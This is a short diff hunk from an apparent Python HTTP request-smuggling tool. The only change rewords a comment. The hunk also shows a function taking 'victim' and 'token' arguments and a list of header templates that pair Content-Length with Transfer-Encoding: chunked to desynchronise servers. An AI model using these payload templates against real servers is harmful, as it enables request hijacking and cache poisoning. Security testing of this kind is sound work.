@@ -83,7 +83,7 @@ def whole(path, victim, token):
     return [text.encode("latin-1") for text in texts]
 
 
-# How the length of a body is told, twice: {length} is that of all of it, the first chunk is its last.
+# The length of a body, told twice: {length} is that of all of it, the first chunk is its last.
 LENGTHS = [
     "Content-Length: {length}\r\nTransfer-Encoding: chunked",
     "Transfer-Encoding: chunked\r\nContent-Length: {length}",
